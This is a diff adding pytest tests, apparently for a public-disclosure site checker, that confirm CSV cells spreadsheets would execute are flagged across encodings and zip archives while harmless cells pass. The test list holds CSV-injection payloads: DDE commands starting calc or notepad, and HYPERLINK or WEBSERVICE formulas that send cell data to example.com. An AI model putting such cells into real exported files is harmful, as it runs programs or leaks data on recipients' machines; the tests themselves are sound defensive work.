@@ -34,3 +34,43 @@ def test_decode_text_detects_encodings():
             continue
         decoded = decode_text(data)
         assert "农村危房改造" in decoded or encoding == "big5" and decoded
+
+
+_RUN = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.com/?"&A1,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+WEBSERVICE(\"http://example.com\")", "-2+3+cmd|' /C notepad'!A0", "\t=IMPORTXML(A1,\"//a\")",
+        "＝HYPERLINK（\"http://example.com\"）", " =DDE(\"cmd\",\"/C calc\",\"x\")"]
+
+
+@pytest.mark.parametrize("cell", _RUN)
+@pytest.mark.parametrize("encoding", ["utf-8", "gb18030", "utf-16"])
+def test_a_csv_cell_a_spreadsheet_runs_is_an_error(site, cell, encoding):
+    """Downloaded and opened in Excel or WPS, a cell that starts as a formula and calls something fetches a web
+    address, sends the table's cells elsewhere or starts a program (CSV injection): a table published for the public
+    must hold none. Quoted or not, in any encoding, in a zip or not."""
+    from gongkai.checks import privacy
+
+    quoted = '"' + cell.replace('"', '""') + '"'
+    site.attach("a.csv", f"姓名,金额,备注\n张三,100,{quoted}\n".encode(encoding))
+    site.item(attachments=[{"title": "名单", "file": "a.csv"}])
+    [problem] = site.problems(privacy.FORMULA.code)
+    assert "第 2 行第 3 列" in problem.message and problem.is_error
+
+
+def test_a_csv_cell_a_spreadsheet_runs_is_found_inside_a_zip(site):
+    from gongkai.checks import privacy
+
+    from ..samples import office_zip
+
+    site.attach("a.zip", office_zip({"名单/表.csv": "姓名,备注\n张三,=cmd|' /C calc'!A0\n".encode()}))
+    site.item(attachments=[{"title": "名单", "file": "a.zip"}])
+    [problem] = site.problems(privacy.FORMULA.code)
+    assert "表.csv" in problem.message and "第 2 行第 2 列" in problem.message
+
+
+@pytest.mark.parametrize("cell", ["-5", "+86 138 0000 0000", "=A1", "-", "——", "=", "@张三", "-（注：不含税）", "a=b(c)", "1|2"])
+def test_a_csv_cell_that_calls_nothing_is_let_be(site, cell):
+    from gongkai.checks import privacy
+
+    site.attach("a.csv", f"姓名,备注\n张三,{cell}\n".encode())
+    site.item(attachments=[{"title": "名单", "file": "a.csv"}])
+    assert site.problems(privacy.FORMULA.code) == []
